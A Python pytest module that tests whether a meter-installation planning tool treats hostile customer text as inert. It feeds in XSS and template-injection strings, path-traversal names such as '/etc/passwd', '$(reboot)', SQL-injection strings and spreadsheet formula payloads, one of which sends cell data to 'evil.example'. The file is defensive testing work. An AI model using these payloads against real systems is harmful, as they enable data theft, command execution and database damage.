"""Hostile text from the customer system (issue 8): nothing a customer writes is executed,
escapes a folder, or reaches SQL unbound.

- names and addresses with HTML, CSS, Jinja syntax and control characters print literally
  in letters (the text of the PDF) and in SMS (the outbox);
- order numbers with '/', '..', '\\' or absolute paths never write outside the letters folder;
- export cells starting with '=', '+', '-' or '@' are neutralised (CSV and XLSX);
- filter values with SQL quotes find nothing and change nothing.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
import sqlalchemy
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from amsplan.store import db
from tests.cli.support import data, ok, order, run, statuses
from tests.helpers import DAY, HEADER, assign_all, order_row, seed

DATE = DAY.isoformat()

# What customers (or whoever fills in the customer system) might write.
PAYLOADS = {
    "html": "<b>Kari</b> <script>alert('x')</script> <img src=x onerror=alert(1)> &amp; &lt;",
    "css": '<style>body{display:none}</style> <div style="color:white">skjult</div>',
    "jinja": "{{ 7*7 }} {% raw %}raw{% endraw %} {{ config }} {# note #} ${7*7}",
    "markup": "[bold red]Kari[/] <!-- x --> ]]> \\n %s %(x)s {0}",
}


@pytest.fixture(scope="module", autouse=True)
def _build_the_command_line_once():
    """`run` builds the click command tree from the Typer app on every call (about 60 ms);
    build it once for this module."""
    import typer.testing

    build = typer.testing._get_command
    built: dict[int, object] = {}

    def cached(app):
        if id(app) not in built:
            built[id(app)] = build(app)
        return built[id(app)]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(typer.testing, "_get_command", cached)
        yield


KEYS = ["order_no", "mpid", "meter", "name", "street", "postcode", "city", "municipality",
        "phone", "stage", "lat", "lon", "description", "important", "difficult"]  # fmt: skip


def order_cells(n: int, **overrides: str) -> list[str]:
    """The cells of tests.helpers.order_row, any of them replaced (and quoted when written)."""
    cells = dict(zip(KEYS, order_row(n).split(";"), strict=True))
    cells.update(overrides)
    return list(cells.values())


def import_orders(ws, rows: list[list[str]], name: str = "orders.csv"):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(HEADER.split(";"))
    writer.writerows(rows)
    (ws.path / name).write_text(out.getvalue(), encoding="utf-8")
    return run("orders", "import", name)


def pdf_text(path: Path) -> str:
    from pypdf import PdfReader

    # pypdf reads some subset fonts as UTF-16 and leaves NULs between the letters.
    return "".join(page.extract_text() for page in PdfReader(path).pages).replace("\x00", "")


def squeezed(text: str) -> str:
    """Without any whitespace: the letter wraps long words anywhere."""
    return re.sub(r"\s+", "", text)


def db_snapshot(ws) -> dict[str, list[str]]:
    engine = db.make_engine(ws.url)
    try:
        meta = sqlalchemy.MetaData()
        meta.reflect(engine)
        with engine.connect() as conn:
            return {
                t.name: sorted(repr(tuple(r)) for r in conn.execute(t.select()))
                for t in meta.sorted_tables
            }
    finally:
        engine.dispose()


def clean(result) -> None:
    assert "Traceback" not in result.output, result.output[-3000:]
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info


# --- letters -----------------------------------------------------------------------------


def test_names_and_addresses_print_literally_in_letters(workspace):
    ws = workspace
    rows = [
        order_cells(1, name=PAYLOADS["html"], street=PAYLOADS["css"], city=PAYLOADS["jinja"]),
        order_cells(2, name=PAYLOADS["jinja"], street=PAYLOADS["markup"], meter=PAYLOADS["css"]),
        order_cells(3, name="Kari\u00a0Nordmann", street="Gata\u00a01", city="H\u00c5MAR\u200b"),
    ]
    assert import_orders(ws, rows).exit_code == 0
    ok("techs", "add", "T01", "--name", PAYLOADS["jinja"], "--start", "07:00", "--end", "16:00")
    ok("assign", "AMS-00001", "AMS-00002", "AMS-00003", "--tech", "T01", "--date", DATE)
    ok("lock", "--tech", "T01", "--date", DATE)
    ok("letters", "generate")
    letters = sorted(ws.letters.glob("*.pdf"))
    assert len(letters) == 3
    texts = [squeezed(pdf_text(p)) for p in letters]
    expected = [
        [PAYLOADS["html"], PAYLOADS["css"], PAYLOADS["jinja"]],
        [PAYLOADS["jinja"], PAYLOADS["markup"], PAYLOADS["css"]],
        ["KariNordmann", "Gata1", "HÅMAR"],
    ]
    for text, payloads in zip(texts, expected, strict=True):
        for payload in payloads:
            assert squeezed(payload) in text, (payload, text[:3000])
        assert squeezed(PAYLOADS["jinja"]) in text  # the technician's name
    # Nothing was evaluated ({{ 7*7 }} is there as written), the style hid nothing.
    assert all("Viskalbyttestrømmålerendin" in t for t in texts)
    # And on the terminal, Rich markup in customer data prints as written.
    assert PAYLOADS["markup"] in ok("orders", "show", "AMS-00002").stdout


def test_control_characters_are_refused_by_the_orders_import(workspace):
    ws = workspace
    seed(ws, 1)
    before = db_snapshot(ws)
    for bad in ["Kari\x1b[31mNordmann", "Kari\x07", "Ola\x08\x08\x08Per", "A\x7fB", "A\rB"]:
        result = import_orders(ws, [order_cells(2, name=bad)], "bad.csv")
        clean(result)
        assert result.exit_code != 0
        assert "bad.csv:2: Navn: contains control characters" in result.stderr, result.stderr
    assert db_snapshot(ws) == before


def test_control_characters_in_a_technicians_name_never_reach_letters_or_sms_raw(workspace):
    ws = workspace
    seed(ws, 2)
    name = "Ola\x1b[31m Nordmann\x07\x08 <b>{{ 7*7 }}</b>"
    path = ws.path / "techs.csv"
    path.write_text(
        f'Montørnr;Navn;Telefon;Arbeidstid fra;Arbeidstid til\nT01;"{name}";41234567;07:00;16:00\n',
        encoding="utf-8",
    )
    result = run("techs", "import", path)
    clean(result)
    if result.exit_code != 0:  # refused: fine, with a clear error
        assert "techs.csv" in result.stderr
        return
    assign_all(ws, ["AMS-00001", "AMS-00002"])
    ok("lock", "AMS-00001")
    ok("letters", "generate")
    (letter,) = ws.letters.glob("*.pdf")
    assert squeezed("[31m Nordmann") in squeezed(pdf_text(letter))
    assert squeezed("<b>{{ 7*7 }}</b>") in squeezed(pdf_text(letter))
    ok("sms", "book", "AMS-00002")
    (sms,) = data("sms", "list")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", sms["text"]), sms["text"]
    assert "Ola[31m Nordmann <b>{{ 7*7 }}</b>" in sms["text"]


# --- SMS -----------------------------------------------------------------------------------


def test_customer_text_prints_literally_in_sms(workspace):
    ws = workspace
    # A template override that puts the customer's name into the booking SMS.
    (ws.path / "tpl" / "sms").mkdir(parents=True)
    (ws.path / "tpl" / "sms" / "booking.txt").write_text(
        "Hei {{ customer_name }}! Montør {{ technician_name }} kommer {{ appointment }}. "
        "Svar {{ code }} {{ keyword_ok }} til {{ reply_number }}.\n",
        encoding="utf-8",
    )
    with (ws.path / "amsplan.toml").open("a", encoding="utf-8") as toml:
        toml.write('\n[letters]\ntemplates = "tpl"\n')
    rows = [order_cells(n, name=text) for n, text in enumerate(PAYLOADS.values(), start=1)]
    assert import_orders(ws, rows).exit_code == 0
    ok("techs", "add", "T01", "--name", PAYLOADS["css"], "--start", "07:00", "--end", "16:00")
    numbers = [f"AMS-{n:05d}" for n in range(1, len(rows) + 1)]
    ok("assign", *numbers, "--tech", "T01", "--date", DATE)
    ok("sms", "book", "--tech", "T01", "--date", DATE)
    texts = {m["order_no"]: m["text"] for m in data("sms", "list")}
    for number, payload in zip(numbers, PAYLOADS.values(), strict=True):
        text = texts[number]
        assert f"Hei {' '.join(payload.split())}!" in text, text
        assert f"Montør {' '.join(PAYLOADS['css'].split())} kommer" in text, text
    free = "{{ 7*7 }} {% raw %}x{% endraw %} <b>{{ customer_name }}</b> $(reboot) `id`"
    ok("sms", "send", "AMS-00001", free)
    (sent,) = [m for m in data("sms", "list", "--order", "AMS-00001") if m["kind"] == "free_text"]
    assert sent["text"] == free


# --- order numbers as file names -----------------------------------------------------------

PATHS = [
    "../../escape",
    "/etc/passwd",
    "..\\..\\windows\\evil",
    "..",
    ".",
    "~root",
    "a/../../b",
    "C:\\Temp\\evil",
    "%2e%2e%2fescape",
    "....//....//escape",
    "\u2215etc\u2215passwd",  # division slash
    "\uff0e\uff0e\uff0fescape",  # fullwidth ../
    ".hidden",
    "-rf",
    "*",
    "AMS-1 AMS-2",
    "x" * 80,
]
# Control characters: the importer may refuse them; if it takes them, they are checked too.
MAYBE = ["new\nline", "tab\there", "esc\x1bape", "bell\x07", "nul%00byte"]


def tree(root: Path, skip: tuple[str, ...] = ()) -> dict[str, tuple[int, int]]:
    """Every file under root (relative path -> size, mtime), except the skipped tops."""
    out = {}
    for path in root.rglob("*"):
        relative = path.relative_to(root)
        if relative.parts[0] in skip or not path.is_file():
            continue
        stat = path.stat()
        out[str(relative)] = (stat.st_size, stat.st_mtime_ns)
    return out


def test_order_numbers_never_write_outside_the_letters_folder(workspace):
    ws = workspace
    rows = [order_cells(n, order_no=number) for n, number in enumerate(PATHS, start=1)]
    assert import_orders(ws, rows).exit_code == 0
    numbers = list(PATHS)
    for n, number in enumerate(MAYBE, start=len(PATHS) + 1):
        result = import_orders(ws, [order_cells(n, order_no=number)], f"maybe{n}.csv")
        clean(result)
        if result.exit_code == 0:
            numbers.append(number)
        else:
            assert f"maybe{n}.csv:2: Ordrenr" in result.stderr, result.stderr
    seed(ws, 0)  # the technician
    for i in range(0, len(numbers), 8):  # eight one-hour slots a day
        assign_all(ws, numbers[i : i + 8], day=DAY.replace(day=DAY.day + i // 8))

    # The workspace outside the letters folder and the database: not a byte changes. The
    # folders of earlier tests next to it: no file appears (their databases may still be
    # checkpointed by engines being collected, so only names are compared there).
    skip = ("letters", "amsplan.db", "amsplan.db-wal", "amsplan.db-shm")
    before = tree(ws.path, skip)
    neighbours = set(tree(ws.path.parent, (ws.path.name,)))
    top = sorted(os.listdir("/"))
    passwd = Path("/etc/passwd").stat()

    ok("lock", "--", *numbers)
    ok("letters", "generate", "--combined")

    assert tree(ws.path, skip) == before
    new = set(tree(ws.path.parent, (ws.path.name,))) - neighbours
    assert not [n for n in new if not n.endswith(("-wal", "-shm", "-journal"))], new
    assert sorted(os.listdir("/")) == top
    assert Path("/etc/passwd").stat() == passwd
    letters = ws.letters.resolve()
    files = [p for p in letters.rglob("*") if p.is_file()]
    for path in files:
        assert path.resolve().is_relative_to(letters), path
    pdfs = sorted(p.name for p in letters.glob("*.pdf"))
    assert len(pdfs) == len(numbers), pdfs
    for name in pdfs:
        assert re.fullmatch(r"\d{4}-\d\d-\d\d_T01_\d{3}_[A-Za-z0-9_-]+\.pdf", name), name
    assert len(list((letters / "combined").glob("batch_*.pdf"))) == 1
    # Every letter is the letter of its own order (no two orders share a file).
    pending = {p["file_name"]: p["order_no"] for p in data("letters", "pending")}
    assert sorted(pending) == pdfs and sorted(pending.values()) == sorted(numbers)
    for name, number in pending.items():
        # The letter prints its own order number (compared by letters and digits: the PDF
        # text of a division slash or a fullwidth stop does not read back as written).
        printed = re.sub(r"[^A-Za-z0-9]", "", pdf_text(letters / name))
        assert re.sub(r"[^A-Za-z0-9]", "", number) in printed, (number, name)


# --- exports ---------------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "street": "+47 Storgata 1",
    "city": "-HAMAR",
    "meter": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "=1+2",
    "important": "",
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


def ready(ws, rows: list[list[str]], by: str = "sms") -> list[str]:
    """The orders imported, booked (by SMS or letter), agreed by phone: ready for execution."""
    assert import_orders(ws, rows).exit_code == 0
    numbers = [cells[0] for cells in rows]
    seed(ws, 0)
    assign_all(ws, numbers)
    if by == "sms":
        ok("sms", "book", "--", *numbers)
    else:
        ok("lock", "--", *numbers)
        ok("letters", "generate")
    ok("followup", "manual", *numbers)
    ok("followup", "send-to-execution", *numbers)
    return numbers


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def read_csv_export(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";"))


def test_formula_cells_are_neutralised_in_the_mobile_csv_export(workspace):
    ws = workspace
    rows = [
        order_cells(1, name=FORMULAS["name"], street=FORMULAS["street"]),
        order_cells(2, city=FORMULAS["city"], meter=FORMULAS["meter"]),
        order_cells(3, order_no="=ORDER()", name="@Kari", lat="-12,5", lon="-45,25"),
    ]
    rows[0][KEYS.index("description")] = FORMULAS["description"]
    ready(ws, rows)
    ok("export", "mobile", "mobil.csv")
    exported = read_csv_export(ws.path / "mobil.csv")
    assert len(exported) == 3
    for row in exported:
        for column, cell in row.items():
            if cell.startswith(STARTS):
                assert is_number(cell), (column, cell)
    by_no = {row["order_no"]: row for row in exported}
    assert by_no["AMS-00001"]["customer_name"] == "'" + FORMULAS["name"]
    assert by_no["AMS-00001"]["street"] == "'" + FORMULAS["street"]
    assert by_no["AMS-00001"]["description"] == "'" + FORMULAS["description"]
    assert by_no["AMS-00002"]["city"] == "'" + FORMULAS["city"]
    assert by_no["AMS-00002"]["meter_number"] == "'" + FORMULAS["meter"]
    assert by_no["'=ORDER()"]["customer_name"] == "'@Kari"
    assert float(by_no["'=ORDER()"]["latitude"]) == -12.5  # a number stays a number


def test_formula_cells_are_text_in_the_mobile_xlsx_export(workspace):
    import openpyxl

    ws = workspace
    rows = [order_cells(1, name=FORMULAS["name"], street=FORMULAS["street"], phone="=1+2"),
            order_cells(2, city=FORMULAS["city"], meter=FORMULAS["meter"])]  # fmt: skip
    ready(ws, rows, by="letter")
    ok("export", "mobile", "mobil.xlsx")
    book = openpyxl.load_workbook(ws.path / "mobil.xlsx")
    values = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            values.append(cell.value)
    texts = [FORMULAS[key] for key in ("name", "street", "city", "meter")]
    for text in [*texts, "=1+2"]:
        assert text in values, text


def test_a_phone_number_that_is_a_formula_is_neutralised_in_the_csv_export(workspace):
    ws = workspace
    phone = '=HYPERLINK("http://evil.example","Ring")'  # no mobile: booked by letter
    ready(ws, [order_cells(1, phone=phone), order_cells(2)], by="letter")
    ok("export", "mobile", "mobil.csv")
    phones = [row["phone"] for row in read_csv_export(ws.path / "mobil.csv")]
    assert phones[0] == "'" + phone  # neutralised
    assert phones[1] == "+4740000002"  # a mobile number in international form stays usable


def test_formula_cells_are_neutralised_in_the_validation_export(workspace):
    ws = workspace
    numbers = ready(ws, [order_cells(1, meter="=1+1"), order_cells(2, meter="-5")])
    returns = ws.path / "retur.csv"
    returns.write_text(
        "Ordrenr;Hendelse;Løsningskode\n" + "".join(f"{n};løst;OK\n" for n in numbers),
        encoding="utf-8",
    )
    ok("returns", "ingest", returns)
    ok("export", "validation", "validering.csv")
    exported = read_csv_export(ws.path / "validering.csv")
    assert sorted(row["meter_number"] for row in exported) == ["'-5", "'=1+1"]


# --- filter values ------------------------------------------------------------------------

SQL = [
    "' OR 1=1 --",
    "T01' OR '1'='1",
    '"; DROP TABLE work_order; --',
    "' UNION SELECT id, name FROM technician --",
    "%",
    "_",
    "T0_",
    "AMS-0000%",
    "*",
    "\\",
    "T01\\' OR 1=1 #",
    "x" * 5000,
]


def found_nothing(result, empty: object = None) -> None:
    """Refused with one Error: line, or an empty answer; never a traceback."""
    clean(result)
    if result.exit_code == 0:
        if empty is not None:
            assert json.loads(result.stdout) == empty, result.stdout[:2000]
        return
    assert result.exit_code != 2, result.output  # not a usage error: the value was read
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, result.stderr


def test_sql_in_filter_values_finds_nothing_and_breaks_nothing(workspace):
    ws = workspace
    seed(ws, 3)
    assign_all(ws, ["AMS-00001", "AMS-00002"])
    ok("sms", "book", "AMS-00001")
    ok("followup", "manual", "AMS-00001")
    before, counts = db_snapshot(ws), statuses()
    for value in SQL:
        found_nothing(run("followup", "list", f"--tech={value}", "--json"), [])
        found_nothing(run("export", "mobile", "x.csv", f"--tech={value}"))
        found_nothing(run("letters", "generate", f"--tech={value}"))
        found_nothing(run("lock", f"--tech={value}", "--date", DATE))
        found_nothing(run("sms", "book", f"--tech={value}", "--date", DATE))
        found_nothing(run("assign", "AMS-00003", f"--tech={value}", "--date", DATE))
        found_nothing(run("followup", "list", "--tech", "T01", f"--date={value}"))
        found_nothing(run("orders", "show", "--", value))
        found_nothing(run("sms", "list", f"--order={value}", "--json"), [])
        found_nothing(run("sms", "send", "--", value, "hei"))
        found_nothing(run("followup", "manual", "--", value))
        found_nothing(run("orders", "close", "--resolution", "OK", "--", value))
        found_nothing(run("orders", "reopen", "--", value))
        found_nothing(run("followup", "confirm", "--", value))
    assert db_snapshot(ws) == before and statuses() == counts
    assert [t["id"] for t in data("techs", "list")] == ["T01"]
    assert len(data("followup", "list")) == 1


def test_an_order_number_that_looks_like_sql_is_found_exactly(workspace):
    ws = workspace
    tricky = "' OR '1'='1"
    rows = [order_cells(1), order_cells(2, order_no=tricky), order_cells(3, order_no="%")]
    assert import_orders(ws, rows).exit_code == 0
    assert order(tricky)["order_no"] == tricky
    assert order("%")["order_no"] == "%"
    assert run("orders", "show", "_").exit_code == 4
    ok("orders", "close", "--resolution", "Kansellert", "--", tricky)
    assert statuses() == {"open": 2, "closed": 1}
    assert order("AMS-00001")["status"] == "open"


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    value=st.text(
        alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
        max_size=40,
    )
)
def test_any_filter_value_finds_nothing_and_breaks_nothing(workspace, value):
    if not hasattr(workspace, "_fuzz_before"):
        seed(workspace, 2)
        workspace._fuzz_before = db_snapshot(workspace)
    if value.strip() in ("T01", "AMS-00001", "AMS-00002"):
        return
    found_nothing(run("followup", "list", f"--tech={value}", "--json"), [])
    found_nothing(run("orders", "show", "--", value))
    found_nothing(run("sms", "list", f"--order={value}", "--json"), [])
    found_nothing(run("export", "mobile", "x.json", f"--tech={value}"))
    assert db_snapshot(workspace) == workspace._fuzz_before
